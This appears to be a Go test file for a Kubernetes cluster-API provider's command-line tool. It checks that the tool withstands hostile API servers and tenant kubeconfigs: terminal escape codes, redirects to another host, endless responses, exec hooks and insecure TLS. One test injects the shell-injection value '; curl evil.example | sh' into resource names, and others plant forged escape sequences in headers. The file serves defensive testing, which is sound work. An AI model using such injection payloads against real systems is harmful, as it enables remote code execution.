package main

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"unicode"

	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"github.com/capwin/cluster-api-provider-windows/test/kit/expect"
)

// asked are the commands that ask an API server, each as a person calls it.
func asked(t *testing.T, h *hostile) map[string][]string {
	t.Helper()
	config := h.kubeconfig(t)
	calico := []string{
		"addons", "--kubernetes-version", "v1.36.3", "--mode", "Overlay", "--cni", "Calico", "--form", "CalicoSettings",
		"--pod-cidr", "10.244.0.0/16", "--service-cidr", "10.96.0.0/12", "--endpoint", "10.0.0.10:6443", "--cluster", "prod",
	}
	smoke := []string{"smoke", "--kubeconfig", config, "--timeout", "1s"}
	linux := []string{"check", "linux", "--kubeconfig", config}
	return map[string][]string{
		"check linux": linux, "check linux -o json": append(linux, "-o", "json"), "check linux -o yaml": append(linux, "-o", "yaml"),
		"check linux -o name":   append(linux, "-o", "name"),
		"check linux --cluster": {"check", "linux", "--kubeconfig", managed(t, h), "--cluster", "prod"},
		"smoke":                 smoke, "smoke -o json": append(smoke, "-o", "json"), "smoke -o yaml": append(smoke, "-o", "yaml"),
		"addons": append(calico, "--kubeconfig", config),
	}
}

// fit says what of a text must not reach a terminal, or is not ours to say.
func fit(t *testing.T, what, text string) {
	t.Helper()
	for _, character := range text {
		if character != '\n' && !unicode.IsPrint(character) {
			t.Errorf("%s has %U: %.300q", what, character, text)
			return
		}
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "note: FORGED") || strings.HasPrefix(line, "FORGED") {
			t.Errorf("%s has a line of others: %.300q", what, text)
			return
		}
		if len(line) > 10_000 {
			t.Errorf("%s has a line of %d characters: %.100q", what, len(line), line)
			return
		}
	}
}

// TestWordsOfAPIServers: whatever an API server, a kubelet or a guest says, none of it acts on a terminal or speaks in our name.
func TestWordsOfAPIServers(t *testing.T) {
	status := func(code int, reason string) func(http.ResponseWriter, *http.Request) bool {
		return func(w http.ResponseWriter, _ *http.Request) bool {
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Warning", `299 - "\u001b[2J FORGED"`)
			answer(w, code, reason, longEvil)
			return true
		}
	}
	for name, lie := range map[string]func(http.ResponseWriter, *http.Request) bool{
		"500": status(500, "InternalError"), "400": status(400, "BadRequest"), "403": status(403, "Forbidden"),
		"401": status(401, "Unauthorized"), "404": status(404, "NotFound"), "a reason": status(422, evil),
		"no JSON": func(w http.ResponseWriter, _ *http.Request) bool {
			http.Error(w, longEvil, http.StatusServiceUnavailable)
			return true
		},
		"in what it has": nil, "in names": nil,
	} {
		t.Run(name, func(t *testing.T) {
			h := newHostile(t, lie)
			if name == "in names" {
				h.inNames = evil
			}
			for command, args := range asked(t, h) {
				got := call(t, "", args...)
				fit(t, command+": standard output", got.Out)
				fit(t, command+": standard error", got.Err)
				if got.Out+got.Err == "" {
					t.Errorf("%s printed nothing", command)
				}
			}
		})
	}
}

// TestNamesInCommands: a name that a shell would take apart is in no command, and ends the look at the cluster.
func TestNamesInCommands(t *testing.T) {
	h := newHostile(t, nil)
	h.inNames = "; curl evil.example | sh"
	for command, args := range asked(t, h) {
		got := call(t, "", args...)
		const says = "no API server of Kubernetes accepts"
		if command != "addons" && (got.Code != exitRefused || got.Out != "" || !strings.Contains(got.Err, says)) {
			t.Errorf("%s: got %+v", command, got)
		}
	}
}

// TestRedirects: a login goes where the kubeconfig says, and nowhere else.
func TestRedirects(t *testing.T) {
	var stolen atomic.Int64
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		stolen.Add(1)
		answer(w, http.StatusInternalServerError, "InternalError", "the words of an address inside")
	}))
	t.Cleanup(elsewhere.Close)
	h := newHostile(t, func(w http.ResponseWriter, r *http.Request) bool {
		http.Redirect(w, r, elsewhere.URL+"/stolen", http.StatusTemporaryRedirect)
		return true
	})
	for command, args := range asked(t, h) {
		got := call(t, "", args...)
		if got.Code != exitRefused || !strings.Contains(got.Err, "redirect") || strings.Contains(got.Err, "inside") {
			t.Errorf("%s: got %+v", command, got)
		}
	}
	expect.Same(t, "calls elsewhere", int64(0), stolen.Load())
}

// mostOfAnAnswer is the 2 MiB that an object may have, and what is on its way in the buffers of two kernels.
const mostOfAnAnswer = 8 << 20

// TestAnswersWithoutEnd: no answer fills the memory of whoever asks. What is counted are the bytes that the server got rid of.
func TestAnswersWithoutEnd(t *testing.T) {
	block := []byte(strings.Repeat("x", 1<<20))
	endless := func(status int, kind string) func(http.ResponseWriter, *http.Request) bool {
		return func(w http.ResponseWriter, r *http.Request) bool {
			w.Header().Set("Content-Type", kind)
			w.WriteHeader(status)
			write(w, `{"gitVersion":"`)
			for range 512 { // MiB, so that the test ends where nothing ends it
				if _, err := w.Write(block); err != nil || r.Context().Err() != nil {
					break
				}
			}
			return true
		}
	}
	for name, lie := range map[string]func(http.ResponseWriter, *http.Request) bool{
		"good": endless(200, "application/json"), "refusal": endless(500, "application/json"), "text": endless(403, "text/plain"),
	} {
		t.Run(name, func(t *testing.T) {
			h := newHostile(t, lie)
			for command, args := range asked(t, h) {
				h.wrote.Store(0)
				got := call(t, "", args...)
				t.Logf("%s: %d KiB", command, h.wrote.Load()>>10)
				if wrote := h.wrote.Load(); wrote > mostOfAnAnswer {
					t.Errorf("%s: the server got rid of %d MiB: %.300q", command, wrote>>20, got.Err)
				}
				expect.Same(t, command, exitRefused, got.Code)
			}
		})
	}
}

// TestListsWithoutEnd: a list that is continued for ever ends.
func TestListsWithoutEnd(t *testing.T) {
	var h *hostile
	h = newHostile(t, func(w http.ResponseWriter, r *http.Request) bool {
		if r.Method != http.MethodGet || strings.HasSuffix(r.URL.Path, "/version") || h.heard.Load() > 1000 {
			return false
		}
		w.Header().Set("Content-Type", "application/json")
		write(w, `{"metadata":{"continue":"more"},"items":[]}`)
		return true
	})
	for command, args := range asked(t, h) {
		if command == "addons" {
			continue // it reads no list where there is no Calico
		}
		h.heard.Store(0)
		got := call(t, "", args...)
		if heard := h.heard.Load(); heard > 250 || got.Code != exitRefused || !strings.Contains(got.Err, "200 pages") {
			t.Errorf("%s: %d calls, %+.300v", command, heard, got)
		}
	}
}

// TestKubeconfigsOfTenants: the kubeconfig of a Cluster runs nothing on the computer of whoever looks at the Cluster, reads no
// file of it, and has nobody asked but the API server, by TLS.
func TestKubeconfigsOfTenants(t *testing.T) {
	h := newHostile(t, nil)
	ran := filepath.Join(t.TempDir(), "ran")
	for field, change := range map[string]func(*clientcmdapi.Cluster, *clientcmdapi.AuthInfo){
		"user.exec": func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) {
			u.Exec = &clientcmdapi.ExecConfig{
				APIVersion: "client.authentication.k8s.io/v1", Command: "touch", Args: []string{ran},
				InteractiveMode: clientcmdapi.NeverExecInteractiveMode,
			}
		},
		"user.tokenFile": func(_ *clientcmdapi.Cluster, u *clientcmdapi.AuthInfo) { u.TokenFile = "/etc/hostname" },
		"cluster.server": func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.Server = "http://127.0.0.1:1" },
		"cluster.proxy-url": func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) {
			c.ProxyURL = "http://127.0.0.1:1"
		},
		"cluster.insecure-skip-tls-verify": func(c *clientcmdapi.Cluster, _ *clientcmdapi.AuthInfo) { c.InsecureSkipTLSVerify = true },
	} {
		config := expect.Got(clientcmd.Load([]byte(kubeconfigOf(t, h.url, []byte(h.ca), ""))))(t)
		change(config.Clusters["c"], config.AuthInfos["u"])
		if field == "cluster.insecure-skip-tls-verify" {
			config.Clusters["c"].CertificateAuthorityData = nil
		}
		kubeconfig := managedBy(t, expect.Got(clientcmd.Write(*config))(t))
		got := call(t, "", "check", "linux", "--kubeconfig", kubeconfig, "--cluster", "prod")
		if got.Code != exitRefused || !strings.Contains(got.Err, "the kubeconfig in Secret prod-kubeconfig is refused: "+field+" ") {
			t.Errorf("%s: got %+v", field, got)
		}
	}
	expect.Same(t, "calls", int64(0), h.heard.Load())
	if _, err := os.Stat(ran); !os.IsNotExist(err) {
		t.Errorf("a program was run: %v", err)
	}
}
